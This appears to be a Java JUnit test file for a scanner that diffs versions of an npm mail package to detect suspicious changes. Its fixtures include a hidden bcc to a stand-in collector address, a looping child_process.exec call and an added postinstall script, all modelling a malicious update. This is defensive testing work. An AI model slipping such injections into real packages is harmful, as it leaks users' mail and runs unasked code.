package dev.assay.scanners.changes;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.scanners.changes.ChangedCode.ChangedFunction;
import dev.assay.scanners.changes.ChangedCode.Line;
import dev.assay.scanners.finding.Change;
import dev.assay.scanners.profile.Packages;
import dev.assay.scanners.vendored.Attributed;

import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.stream.Collectors;

final class ChangedCodeTest {

    private static final String MANIFEST =
            """
            {"name":"mail","version":"1.0.0","main":"index.js","license":"MIT"}""";

    private static final String MAIL =
            """
            const client = require('./client');

            function subject(text) {
              return String(text).trim().slice(0, 200);
            }

            async function sendMail(options) {
              const message = {
                to: options.to,
                subject: subject(options.subject),
                html: options.html,
              };
              return client.post('https://api.mail.example/v1/messages', message);
            }

            module.exports = { sendMail };
            """;

    @Test
    void showsTheOneFunctionThatChangedWithTheLineThatCame() {
        var code =
                between(
                        mail("1.0.0").file("index.js", MAIL),
                        mail("1.0.1")
                                .file(
                                        "index.js",
                                        MAIL.replace(
                                                "    html: options.html,\n",
                                                "    html: options.html,\n"
                                                        + "    bcc: 'audit@collector.example',\n")));

        assertThat(code.functions()).singleElement();
        var function = code.functions().getFirst();
        assertThat(function.change()).isEqualTo(Change.CHANGED);
        assertThat(function.shown().name()).isEqualTo("sendMail");
        assertThat(function.edits()).containsExactly(new ChangedCode.Edit(5, 5, 5, 6));
        var come = function.to().lines().get(5);
        assertThat(come.text()).isEqualTo("    bcc: 'audit@collector.example',");
        assertThat(come.number()).isEqualTo(12);
        assertThat(come.column()).isEqualTo(1);
    }

    @Test
    void marksTheWordsThatChangedInALine() {
        var code =
                between(
                        mail("1.0.0").file("index.js", MAIL),
                        mail("1.0.1").file("index.js", MAIL.replace("200)", "998)")));

        assertThat(code.functions())
                .extracting(each -> each.shown().name())
                .containsExactly("subject");
        var line = code.functions().getFirst().to().lines().get(1);
        assertThat(marked(line)).containsExactly("998");
    }

    @Test
    void breaksMinifiedCodeIntoLinesThatKnowTheirColumn() {
        var minified =
                "\"use strict\";var a=require(\"node:https\");function b(c){var d={to:c.to,subject:c.subject,"
                        + "html:c.html,text:\"a;b{c}\"};if(c.reply){d.reply=c.reply;for(var i=0;i<3;i++){d[i]=/[;{]/.test(c.to)}}"
                        + "return a.request(\"https://api.mail.example/v1/messages\",{method:\"POST\",body:JSON.stringify(d)})}"
                        + "module.exports={b};";
        var hostile =
                minified.replace("html:c.html,", "html:c.html,bcc:\"audit@collector.example\",");
        var code =
                between(
                        mail("1.0.0").file("index.js", minified),
                        mail("1.0.1").file("index.js", hostile));

        var function = code.functions().getFirst();
        assertThat(function.reflowed()).isTrue();
        assertThat(texts(function.to().lines()))
                .contains(
                        "    bcc:\"audit@collector.example\",",
                        "    text:\"a;b{c}\"",
                        "    for(var i=0;i<3;i++){d[i]=/[;{]/.test(c.to)}");
        var line =
                function.to().lines().stream()
                        .filter(each -> each.text().contains("bcc"))
                        .findFirst()
                        .orElseThrow();
        assertThat(line.number()).isEqualTo(1);
        assertThat(line.column()).isEqualTo(hostile.indexOf("bcc:") + 1);
        assertThat(function.edits()).hasSize(1);
    }

    @Test
    void showsTheTopLevelWithoutTheFunctionsInIt() {
        var code =
                between(
                        mail("1.0.0").file("index.js", MAIL),
                        mail("1.0.1")
                                .file(
                                        "index.js",
                                        MAIL
                                                + "\nsetInterval(() => require('child_process')"
                                                + ".exec('id'), 1000);\n"));

        assertThat(code.functions())
                .extracting(ChangedFunction::topLevel)
                .containsExactly(false, true);
        var top = code.functions().getLast();
        assertThat(texts(top.to().lines()))
                .contains("async function sendMail(options) { … }")
                .noneMatch(line -> line.contains("api.mail.example"));
    }

    @Test
    void showsAnInnerFunctionInsideOfTheOneAroundItAndNotAgain() {
        var before =
                "exports.run = function run(a) {\n  return a.map(function each(b) { return b + 1; });\n};\n";
        var after =
                "exports.run = function run(a) {\n  log(a);\n"
                        + "  return a.map(function each(b) { return b + 2 + a; });\n};\n";
        var code =
                between(
                        mail("1.0.0").file("index.js", before),
                        mail("1.0.1").file("index.js", after));

        assertThat(code.functions()).extracting(each -> each.shown().name()).containsExactly("run");
    }

    @Test
    void namesFilesByWhatBecameOfThem() {
        var code =
                between(
                        mail("1.0.0")
                                .file("index.js", MAIL)
                                .file("old.js", "1")
                                .file("same.md", "#"),
                        mail("1.0.1")
                                .file("index.js", MAIL + "//")
                                .file("new.js", "2")
                                .file("same.md", "#"));

        assertThat(code.files())
                .extracting(file -> file.path() + " " + file.state())
                .containsExactly(
                        "index.js CHANGED",
                        "new.js ADDED",
                        "old.js REMOVED",
                        "package.json SAME",
                        "same.md SAME");
    }

    @Test
    void comparesTheManifestByItsKeys() {
        var code =
                between(
                        mail("1.0.0").file("index.js", MAIL),
                        Packages.npm("mail", "1.0.1")
                                .file("index.js", MAIL)
                                .manifest(
                                        MANIFEST.replace(
                                                "\"license\":\"MIT\"",
                                                "\"license\":\"MIT\",\"scripts\":{\"postinstall\":\"node x\"}")));

        assertThat(code.manifest())
                .extracting(ChangedCode.ManifestEntry::key)
                .containsExactly("scripts");
    }

    @Test
    void aHugeFunctionIsCutAndSaysSo() {
        var body = "  work('some text that is long enough to matter', 1);\n".repeat(3_000);
        var code =
                between(
                        mail("1.0.0").file("index.js", MAIL),
                        mail("1.0.1")
                                .file("index.js", MAIL + "function huge() {\n" + body + "}\n"));

        var huge =
                code.functions().stream()
                        .filter(each -> each.shown().name().equals("huge"))
                        .findFirst()
                        .orElseThrow();
        assertThat(huge.to().cut()).contains("characters more are not shown");
        assertThat(huge.to().lines()).hasSizeLessThan(1_300);
    }

    @Test
    void comparesAFileAsDiffDoes() {
        var from = mail("1.0.0").file("index.js", MAIL).tree();
        var to = mail("1.0.1").file("index.js", MAIL.replace("200", "998")).tree();

        var difference = FileDifference.of(from, to, "index.js");

        assertThat(difference.lines())
                .contains(
                        "--- a/index.js",
                        "+++ b/index.js",
                        "-  return String(text).trim().slice(0, 200);",
                        "+  return String(text).trim().slice(0, 998);");
        assertThat(FileDifference.of(from, to, "none").note()).contains("neither");
    }

    @Test
    void tellsWhatIsSentByField() {
        var to =
                mail("1.0.1")
                        .file(
                                "index.js",
                                "exports.send = async function send(o) { await fetch('https://api.mail.example/v1',"
                                        + " {method: 'POST', body: JSON.stringify({to: o.to, bcc: 'a@b.example'})}); };");
        var from =
                mail("1.0.0")
                        .file(
                                "index.js",
                                "exports.send = async function send(o) { await fetch('https://api.mail.example/v1',"
                                        + " {method: 'POST', body: JSON.stringify({to: o.to})}); };");

        var shapes = PayloadShape.between(from.profile().facts(), to.profile().facts());

        assertThat(shapes).singleElement();
        assertThat(shapes.getFirst().isNew()).isFalse();
        assertThat(shapes.getFirst().fields())
                .filteredOn(field -> field.state() == PayloadShape.State.NEW)
                .extracting(field -> field.name() + " " + field.source() + " " + field.constant())
                .containsExactly("bcc constant a@b.example");
    }

    private static ChangedCode between(Packages from, Packages to) {
        var plan =
                ChangePlans.between(
                        Attributed.unknown(from.profile()), Attributed.unknown(to.profile()));
        return new CodeCutter(from.tree(), to.tree()).cut(plan);
    }

    private static Packages mail(String version) {
        return Packages.npm("mail", version).manifest(MANIFEST);
    }

    private static List<String> texts(List<Line> lines) {
        return lines.stream().map(Line::text).toList();
    }

    private static List<String> marked(Line line) {
        var marks = line.marks();
        return java.util.stream.IntStream.range(0, marks.size() / 2)
                .mapToObj(at -> line.text().substring(marks.get(2 * at), marks.get(2 * at + 1)))
                .collect(Collectors.toList());
    }
}
